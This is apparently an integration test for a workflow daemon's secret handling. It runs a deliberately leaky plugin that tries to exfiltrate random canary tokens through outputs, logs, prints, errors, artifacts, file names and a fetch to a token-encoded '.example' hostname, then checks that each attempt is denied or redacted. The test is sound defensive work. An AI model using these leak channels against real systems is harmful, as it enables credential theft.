import { createHash, randomBytes } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { systemClock } from "../../../src/base/index.ts";
import { runProgram } from "../../../src/cli/program.ts";
import { type Daemon, type DaemonEvent, startDaemon } from "../../../src/daemon/index.ts";
import type { RunRecord } from "../../../src/record/index.ts";
import {
  ageKeyFileOf,
  createLentSecrets,
  encryptAge,
  ensureSiteIdentity,
  storeSecretFile,
} from "../../../src/secret/index.ts";
import { createLogger, createRedact } from "../../../src/telemetry/index.ts";
import { isConfinable } from "../../support/confinable.ts";
import { stockGit } from "../../support/git-fixtures.ts";
import { type DaemonPlace, makeDaemonPlace } from "../../support/killed-daemon.ts";
import { dagPath, dagText, type FileChanges, tenantFiles } from "../../support/spec-commits.ts";

/** Each tells where it came from, and stands nowhere else in the world. */
const canaries = {
  file_token: `canary-file-${randomBytes(12).toString("hex")}`,
  age_token: `canary/age+"${randomBytes(12).toString("base64")}"`,
  credential_token: `canary-cred-${randomBytes(12).toString("hex")}\nwith a second line ${randomBytes(6).toString("hex")}`,
} as const;
type SecretName = keyof typeof canaries;

/** How a step tries to give `ctx.secrets.token` away: one function body, and the code that its attempt must end with. */
const channels: Readonly<Record<string, { readonly body: string; readonly code: string | null }>> = {
  output: { body: "return { text: token };", code: "SECRET_LEAKED" },
  "output-key": { body: "return { ['k' + btoa(token)]: 1 };", code: "SECRET_LEAKED" },
  "output-escaped": { body: "return { text: JSON.stringify({ token }) };", code: "SECRET_LEAKED" },
  log: {
    body: "ctx.log('info', 'said ' + token, { token, [token]: [token] }); ctx.log(token, token); return {};",
    code: null,
  },
  "log-encoded": {
    body: "ctx.log('warn', btoa('user:' + token) + ' ' + encodeURIComponent(token)); return {};",
    code: null,
  },
  print: {
    body: "console.log(token); console.error({ token }); process.stdout.write(token + '\\n'); return {};",
    code: null,
  },
  thrown: {
    body: "throw Object.assign(new Error('no: ' + token), { name: token, code: token, token });",
    code: "STEP_FAILED",
  },
  "thrown-transient": { body: "throw Object.assign(new TypeError(token), { transient: true });", code: "STEP_FAILED" },
  "thrown-value": { body: "throw token;", code: "STEP_FAILED" },
  artifact: {
    body: "return { ref: await ctx.artifacts.write('x'.repeat(70000) + token, 'text/plain') };",
    code: "SECRET_LEAKED",
  },
  "artifact-hex": {
    body: "try { await ctx.artifacts.write([...new TextEncoder().encode(token)].map((b) => b.toString(16).padStart(2, '0')).join(''), 'text/plain'); } catch {} return {};",
    code: "SECRET_LEAKED",
  },
  "media-type": {
    body: "return { ref: await ctx.artifacts.write('x', 'text/plain;token=' + token) };",
    code: "SECRET_LEAKED",
  },
  "file-name": { body: "return { bytes: (await ctx.files.read(token)).length };", code: "SANDBOX_DENIED" },
  "artifact-name": {
    body: "return { bytes: (await ctx.artifacts.read({ artifact: token })).length };",
    code: "SANDBOX_DENIED",
  },
  "host-name": {
    body: "await fetch('https://' + [...new TextEncoder().encode(token)].map((b) => b.toString(16).padStart(2, '0')).join('').slice(0, 62) + '.example/');",
    code: "EGRESS_DENIED",
  },
  "exit-name": {
    body: "process.title = token.slice(0, 60); process.exitCode = 7; process.emitWarning(token); return {};",
    code: null,
  },
  // What the secret is for: the endpoint hears it.
  endpoint: {
    body: "const r = await fetch(input.url, { method: 'POST', body: 'body ' + token, headers: { authorization: 'Bearer ' + btoa(token), 'idempotency-key': ctx.idempotencyKey } }); return { status: r.status };",
    code: null,
  },
};

const names = Object.keys(canaries) as SecretName[];
/** Where what the value looks like makes no difference, one is enough. */
const plainChannels = [
  "thrown-transient",
  "thrown-value",
  "artifact-hex",
  "media-type",
  "file-name",
  "artifact-name",
  "exit-name",
];
const namesFor = (channel: string): readonly SecretName[] => (plainChannels.includes(channel) ? ["file_token"] : names);
const idOf = (channel: string, name: SecretName): string => `${channel}-${name.replace("_token", "")}`;
const confinable = isConfinable();
const reason = confinable === null ? "" : `: skipped, ${confinable}`;

let place: DaemonPlace;
let daemon: Daemon;
let port = 0;
const heard: string[] = [];
const logLines: string[] = [];
const events: DaemonEvent[] = [];
const listeners = new Set<() => void>();
const server = createServer((request, response) => {
  let body = "";
  request.setEncoding("utf8");
  request.on("data", (part: string) => (body += part));
  request.on("end", () => {
    heard.push(`${String(request.headers.authorization)} ${body}`);
    response.writeHead(202).end();
  });
});

function specFiles(): FileChanges {
  const bodies = Object.entries(channels).map(
    ([channel, { body }]) => `${JSON.stringify(channel)}: async (token, input, ctx) => { ${body} }`,
  );
  const text = `var ways = { ${bodies.join(",\n")} };\nvar plugin = { default: { run: (input, ctx) => ways[input.channel](ctx.secrets.token, input, ctx) } };\n`;
  const manifest = {
    ...{
      service: "acme",
      emits: "raw",
      effects: "idempotent",
      sha256: createHash("sha256").update(text).digest("hex"),
    },
    ...{ needs: { network: true, secrets: ["token"] }, input: { type: "object" }, output: { type: "object" } },
  };
  const target = `127.0.0.1:${port}`;
  const step = (channel: string, name: SecretName): Record<string, unknown> => ({
    uses: "acme.leak@1.0.0",
    with: { channel, url: `http://${target}/` },
    ...{ network: [target], secrets: { token: name } },
    ...(channel === "thrown-transient" ? { retry: { maxAttempts: 2, backoff: "1ms" } } : {}),
  });
  const dags = Object.keys(channels).flatMap((channel) =>
    namesFor(channel).map((name) => [
      dagPath("acme", idOf(channel, name)),
      dagText({ steps: { leak: step(channel, name) } }),
    ]),
  );
  const example = join(import.meta.dirname, "../../../specs-example/plugins/notify.post/1.0.0");
  const post = { uses: "notify.post@1.0.0", with: { url: `http://${target}/`, summary: "a notice" } };
  return {
    ...tenantFiles("acme", { plugins: ["acme.*", "notify.*"] }),
    ...Object.fromEntries(dags as [string, string][]),
    "plugins/notify.post/1.0.0/plugin.js": readFileSync(join(example, "plugin.js")),
    "plugins/notify.post/1.0.0/plugin.yaml": readFileSync(join(example, "plugin.yaml")),
    [dagPath("acme", "notice")]: dagText({
      steps: { post: { ...post, network: [target], secrets: { token: "file_token" } } },
    }),
    [dagPath("acme", "unset")]: dagText({
      steps: { post: { ...post, network: [target], secrets: { token: "unset_token" } } },
    }),
    "tenants/acme/plugins/acme.leak/1.0.0/plugin.js": text,
    "tenants/acme/plugins/acme.leak/1.0.0/plugin.yaml": `apiVersion: orrery/v1\nkind: Plugin\nspec: ${JSON.stringify(manifest)}\n`,
    "tenants/acme/allowlist.yaml": `apiVersion: orrery/v1\nkind: Allowlist\nspec: ${JSON.stringify({
      plugins: ["core.*", "acme.*", "notify.*"].map((name) => ({ name, versions: ["1.x"] })),
      endpoints: [{ host: "127.0.0.1", port, private: true, for: ["*"] }],
      secrets: [...names, "unset_token"].map((name) => ({ name, for: ["*"] })),
    })}\n`,
  };
}

beforeAll(async () => {
  if (confinable !== null) return;
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;
  place = await makeDaemonPlace(specFiles());
  const { dataDir } = place.config;
  const { recipient } = await ensureSiteIdentity(ageKeyFileOf(dataDir));
  await place.spec.commit({ "tenants/acme/secrets/age_token.age": await encryptAge(canaries.age_token, [recipient]) });
  storeSecretFile(dataDir, { tenant: "acme", name: "file_token" }, canaries.file_token);
  const credentialsDir = join(dataDir, "..", "credentials");
  mkdirSync(credentialsDir, { mode: 0o700 });
  writeFileSync(join(credentialsDir, "acme.credential_token"), canaries.credential_token, { mode: 0o400 });
  const lent = createLentSecrets(() => systemClock.monotonicMs());
  daemon = await startDaemon({
    config: { ...place.config, credentialsDir, sandbox: { ...place.config.sandbox, minLevel: "confined" } },
    version: "0.0.0-test",
    log: createLogger({
      level: "debug",
      redact: createRedact(lent.literals),
      destination: { write: (line) => void logLines.push(line) },
    }),
    lent,
    emit: (event) => {
      events.push(event);
      for (const listener of [...listeners]) listener();
    },
  });
  await seen((each) => each.kind === "pass");
}, 120_000);

afterAll(async () => {
  server.close();
  server.closeAllConnections();
  if (confinable !== null) return;
  await daemon.stop();
  place[Symbol.dispose]();
});

function seen(matches: (event: DaemonEvent) => boolean): Promise<void> {
  return new Promise((resolve) => {
    const look = (): void => {
      if (!events.some(matches)) return;
      listeners.delete(look);
      resolve();
    };
    listeners.add(look);
    look();
  });
}

const answers: string[] = [];

async function call(path: string, init: RequestInit = {}): Promise<{ readonly status: number; readonly text: string }> {
  const headers = {
    ...{ authorization: `Bearer ${await place.token("acme", ["operate", "read"])}`, "x-stella-tenant": "acme" },
    "content-type": "application/json",
  };
  const response = await fetch(`${daemon.url}/api/v1/orchestrator${path}`, { ...init, headers });
  const text = await response.text();
  answers.push(text);
  return { status: response.status, text };
}

async function run(dagId: string): Promise<string> {
  const { status, text } = await call(`/dags/${dagId}/runs`, { method: "POST", body: "{}" });
  if (status !== 201) throw new Error(text);
  const { runId } = JSON.parse(text) as { readonly runId: string };
  await seen((each) => each.kind === "run_settled" && each.runId === runId);
  return runId;
}

async function recordOf(runId: string): Promise<RunRecord> {
  await daemon.seal(new AbortController().signal);
  const record = await daemon.plant.store.ledger.recordOf("acme", `run/${runId}`);
  return JSON.parse(record?.line ?? "null") as RunRecord;
}

/** Where a value stands in some bytes, in the spellings that a reader would undo; by an oracle that knows nothing of ours. */
function findings(where: string, bytes: Buffer): readonly string[] {
  const values = [canaries.file_token, ...canaries.credential_token.split("\n"), canaries.age_token];
  return values.flatMap((value) => {
    const plain = Buffer.from(value);
    const core = plain.subarray(0, plain.length - (plain.length % 3));
    const spellings = [
      ...[value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value), plain.toString("hex")],
      ...[
        core.toString("base64"),
        Buffer.concat([Buffer.from("ab"), plain])
          .toString("base64")
          .slice(4, -4),
      ],
      Buffer.concat([Buffer.from("a"), plain])
        .toString("base64")
        .slice(4, -4),
    ];
    const shown = spellings.filter((spelling) => bytes.includes(spelling));
    return shown.map((spelling) => `${where}: ${spelling}`);
  });
}

function filesBelow(root: string): readonly string[] {
  const found = readdirSync(root, { recursive: true, encoding: "utf8" }).map((name) => join(root, name));
  return found.filter((file) => statSync(file, { throwIfNoEntry: false })?.isFile() === true);
}

/** The database's own files come and go meanwhile. */
function readIfThere(file: string): Buffer {
  try {
    return readFileSync(file);
  } catch (error) {
    if ((error as NodeJS.ErrnoException).code === "ENOENT") return Buffer.alloc(0);
    throw error;
  }
}

async function tablesText(): Promise<ReadonlyMap<string, string>> {
  return place.withDatabase(async (client) => {
    const { rows } = await client.query<{ name: string }>(
      "select table_name as name from information_schema.tables where table_schema = 'orrery' and table_type = 'BASE TABLE'",
    );
    const texts = new Map<string, string>();
    for (const { name } of rows) {
      const { rows: lines } = await client.query<{ text: string }>(`select t::text as text from "${name}" t`);
      texts.set(name, lines.map(({ text }) => text).join("\n"));
    }
    return texts;
  });
}

/** What the CLI prints of this daemon, as a person would ask. */
async function cliText(...argv: string[]): Promise<string> {
  const said: string[] = [];
  const terminal = {
    print: (line: string) => void said.push(line),
    note: (line: string) => void said.push(line),
    isTty: false,
  };
  await runProgram([...argv, "--data", place.config.dataDir], terminal);
  return said.join("\n");
}

describe.skipIf(confinable !== null)(`a plugin that is lent secrets and tries to give them away${reason}`, () => {
  const runs: string[] = [];

  it.each(Object.entries(channels))(
    "by %s: the attempt ends as it must, whichever source the value has",
    async (channel, { code }) => {
      const ended = await Promise.all(namesFor(channel).map((name) => run(idOf(channel, name))));
      runs.push(...ended);

      for (const runId of ended) {
        const record = await recordOf(runId);
        const attempts = record.steps?.[0]?.attempts ?? [];
        expect(attempts.length).toBeGreaterThan(0);
        for (const attempt of attempts) expect(attempt.code ?? null).toBe(code);
        expect(record.deterministic).toBe(false);
      }
    },
    60_000,
  );

  it("notify.post sends its token to the endpoint that it was granted", async () => {
    const runId = await run("notice");
    runs.push(runId);

    expect((await recordOf(runId)).status).toBe("succeeded");
    expect(heard.some((text) => text.startsWith(`Bearer ${canaries.file_token} `))).toBe(true);
  }, 60_000);

  it("a DAG whose secret has no value here is applied, not armed, and its start is a denial on record", async () => {
    const start = await call("/dags/unset/runs", { method: "POST", body: "{}" });
    const { text } = await call("/dags/unset");
    await daemon.seal(new AbortController().signal);

    expect([start.status, JSON.parse(start.text)]).toMatchObject([403, { code: "NOT_ALLOWED" }]);
    expect(text).toContain("SECRET_MISSING");
    const { rows } = await place.withDatabase((client) =>
      client.query<{ line: string }>("select line from record where record_id like 'denial/%/unset/%'"),
    );
    expect(rows).toHaveLength(1);
  });

  it("only the endpoint has seen any of them: no table, record, log, artifact, file, line, answer or print has", async () => {
    await daemon.seal(new AbortController().signal);
    for (const path of ["/tenant", "/dags", "/runs?limit=200", "/events"]) await call(path);
    const prints: string[] = [];
    for (const runId of runs) {
      for (const path of [`/runs/${runId}`, `/runs/${runId}/record`]) await call(path);
      for (const { logsHash } of await daemon.plant.store.ledger.attempts("acme", runId))
        if (logsHash !== null) await call(`/runs/${runId}/logs/${logsHash}`);
    }
    for (const runId of runs.slice(0, 12))
      prints.push(await cliText("logs", runId, "-t", "acme"), await cliText("describe", runId, "-t", "acme"));
    prints.push(
      await cliText("get", "runs", "-t", "acme"),
      await cliText("get", "dags", "-t", "acme"),
      await cliText("secret", "list"),
    );
    answers.push(
      await (await fetch(`${daemon.url}/healthz`)).text(),
      await (await fetch(`${daemon.metricsUrl}/metrics`)).text(),
    );
    const tables = await tablesText();
    const { dataDir, repository } = place.config;
    const kept = filesBelow(dataDir).filter(
      (file) => !file.startsWith(join(dataDir, "secrets")) && !file.endsWith("age.key"),
    );
    const objects = stockGit(repository, ["cat-file", "--batch-all-objects", "--batch-check"])
      .split("\n")
      .map((line) => line.split(" ")[0] ?? "");
    const history = objects.map((oid) => stockGit(repository, ["cat-file", "-p", oid])).join("\n");

    // The oracle sees them where they are allowed to be, and there are things to look into.
    expect(findings("endpoint", Buffer.from(heard.join("\n"))).length).toBeGreaterThan(names.length);
    expect([...tables.keys()]).toEqual(expect.arrayContaining(["attempt", "record", "blob", "event"]));
    expect(history).toContain(runs[0]);
    expect(kept.some((file) => file.includes("/logs/acme/"))).toBe(true);
    expect(answers.join("")).toContain("[redacted]");
    expect(prints.join("")).toContain("[redacted]");
    const all = [
      ...[...tables].flatMap(([name, text]) => findings(`table ${name}`, Buffer.from(text))),
      ...findings("git", Buffer.from(history)),
      ...kept.flatMap((file) => findings(file, readIfThere(file))),
      ...findings("daemon log", Buffer.from(logLines.join(""))),
      ...findings("API", Buffer.from(answers.join("\n"))),
      ...findings("CLI", Buffer.from(prints.join("\n"))),
      ...findings("events", Buffer.from(JSON.stringify(events))),
    ];
    expect(all).toEqual([]);
  }, 120_000);
});
